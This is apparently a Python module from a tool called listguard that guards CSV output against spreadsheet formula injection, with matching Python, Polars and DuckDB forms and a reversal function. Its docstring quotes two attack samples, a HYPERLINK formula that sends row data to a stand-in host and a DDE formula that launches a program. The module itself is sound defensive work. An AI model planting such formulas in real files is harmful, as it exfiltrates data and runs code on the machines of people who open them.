"""No cell of a CSV listguard writes may act as a spreadsheet formula.

``shared/spec/formats.md`` ("Writing files"): a text cell whose first character is
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading
``'``, so that a spreadsheet shows it as text instead of evaluating it (a name such
as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would otherwise send the
row to a stranger, ``=cmd|' /C calc'!A0`` start a program). The rule is defined
here once, in the three forms the writers need: for one Python value, as a Polars
expression over a column, and as a DuckDB SQL expression over a column.

What is written as it is:

- a value whose first character is none of those, and a cell that is not text
  (numbers and dates written by type are never touched);
- a column of codes that listguard itself makes (``channel``, ``decision``,
  ``reasons``, ``contact_ref``...): the writer leaves it out of the rule;
- in a column of coordinates (``numbers=True``), a value of the E.164 shape, ``+``
  and digits, several joined by ``|``: a spreadsheet can read such a cell as a
  number at most, it calls no function and no program. This is decided per value,
  not per column, because such a column also holds what the normaliser did not
  produce: ``decisions.csv``'s ``coordinate`` keeps an invalid number, an email
  or an address as given (``invalid_coordinate``), and a seed's number is the
  seed file's. A free-text column gets no such exception: ``+1+1`` as a name is
  neutralised.

Normalised emails are not exempt as such: RFC 5322 lets the local part of a valid
address start with ``=``, ``+`` or ``-`` and hold ``|``, ``'`` and ``!``, so the
few valid addresses that start with a dangerous character are proven nothing and
get the ``'`` like any text; every other address (in practice all of them) starts
with a letter or a digit and is unchanged.

Nothing is lost: a value that starts with quotes and then a dangerous character
(``'=1``, as an owner may have typed it to please a spreadsheet) gets one quote more,
so a program reading the files back gives every value as it was by removing one
leading ``'`` from a cell made of quotes and then a dangerous character
(:func:`restore`).
"""

from __future__ import annotations

import re
from collections.abc import Collection
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import polars as pl

# the first characters that make a spreadsheet evaluate a cell (OWASP, CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# one number in E.164 (``+``, a country code, at most 15 digits), or several joined by
# ``|`` as the partner's file holds a contact's numbers of one channel
_E164 = r"\+[1-9][0-9]{1,14}"
NUMBERS_SHAPE = rf"{_E164}(?:\|{_E164})*"
_NUMBERS_RE = re.compile(NUMBERS_SHAPE)
# a value that gets the quote: quotes (none or more) then a dangerous character
_QUOTED_STARTS = "^" + QUOTE + "*[" + "".join(re.escape(c) for c in FORMULA_STARTS) + "]"
_QUOTED_RE = re.compile(_QUOTED_STARTS)


def neutralise(value: str, *, numbers: bool = False) -> str:
    """``value`` as a cell that no spreadsheet evaluates. ``numbers``: a column of
    coordinates, where the E.164 shape passes unchanged."""
    if not _QUOTED_RE.match(value):
        return value
    if numbers and _NUMBERS_RE.fullmatch(value):
        return value
    return QUOTE + value


def restore(cell: str) -> str:
    """The value a cell written by :func:`neutralise` holds (for a program reading
    listguard's files back: one quote less where one was added)."""
    return cell[1:] if cell.startswith(QUOTE) and _QUOTED_RE.match(cell[1:]) else cell


def neutralise_cell(value: object) -> object:
    """A cell of a row as ``csv.writer`` takes it: text neutralised, anything else
    (numbers, None) as it is."""
    return neutralise(value) if isinstance(value, str) else value


def neutralised_expr(column: str, *, numbers: bool = False) -> pl.Expr:
    """The Polars form of :func:`neutralise` over a text column (nulls stay null)."""
    import polars as pl

    col = pl.col(column)
    dangerous = col.str.contains(_QUOTED_STARTS)
    if numbers:
        dangerous = dangerous & ~col.str.contains(f"^{NUMBERS_SHAPE}$")
    return pl.when(dangerous).then(pl.lit(QUOTE) + col).otherwise(col).alias(column)


def neutralised_frame(
    frame: pl.DataFrame, *, numbers: Collection[str] = (), codes: Collection[str] = ()
) -> pl.DataFrame:
    """``frame`` with every text column neutralised, but ``codes`` (left as they are);
    ``numbers`` are columns of coordinates (E.164 passes)."""
    import polars as pl

    text = [c for c, dtype in frame.schema.items() if c not in codes and dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(neutralised_expr(c, numbers=c in numbers) for c in text)


def neutralised_sql(column: str, *, numbers: bool = False) -> str:
    """The DuckDB SQL form of :func:`neutralise` over a text column: an expression of
    ``column`` (an SQL expression itself, quoted as needed; nulls stay null)."""
    # ``ord`` is the code point of the first character: one comparison per value, the
    # cheapest test (a regular expression costs half as much again); the quotes are
    # skipped only for the rare value that starts with one
    starts = [str(ord(c)) for c in FORMULA_STARTS]
    quote = QUOTE.replace("'", "''")
    dangerous = (
        f"ord({column}) IN ({', '.join([*starts, str(ord(QUOTE))])}) "
        f"AND ord(ltrim({column}, '{quote}')) IN ({', '.join(starts)})"
    )
    if numbers:
        dangerous += f" AND NOT regexp_full_match({column}, '{NUMBERS_SHAPE}')"
    return f"CASE WHEN {dangerous} THEN '{quote}' || {column} ELSE {column} END"


__all__ = [
    "FORMULA_STARTS",
    "NUMBERS_SHAPE",
    "neutralise",
    "neutralise_cell",
    "neutralised_expr",
    "neutralised_frame",
    "neutralised_sql",
    "restore",
]
